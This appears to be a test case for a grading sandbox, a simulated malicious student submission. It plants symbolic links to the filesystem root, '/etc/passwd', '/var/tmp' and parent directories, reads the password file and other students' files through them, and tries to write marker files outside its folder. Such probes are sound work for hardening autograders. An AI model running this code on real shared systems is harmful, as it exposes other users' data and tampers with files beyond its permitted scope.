"""Links in its folder point at the host; reading and writing go through them.

assignment: ps2_random_shooting
row: symbolic links, `..`, a zip bomb, odd file names in a submission
effect: secret or touch
"""
# %% helper
import os
import pathlib

for _name, _target in {"root": "/", "passwd": "/etc/passwd", "var": "/var/tmp", "up": "../../.."}.items():
    if not os.path.lexists(_name):
        os.symlink(_target, _name)
for _path in [*pathlib.Path("var").glob("*neighbour*"), *pathlib.Path("var").glob("neighbour*"), pathlib.Path("passwd")]:
    try:
        print(_path.read_text()[:2000])
    except OSError:
        pass
for _place in ("root/touched-by-a-student", "var/touched-by-a-student", "up/touched-by-a-student"):
    try:
        pathlib.Path(_place).write_text("x")
    except OSError:
        pass
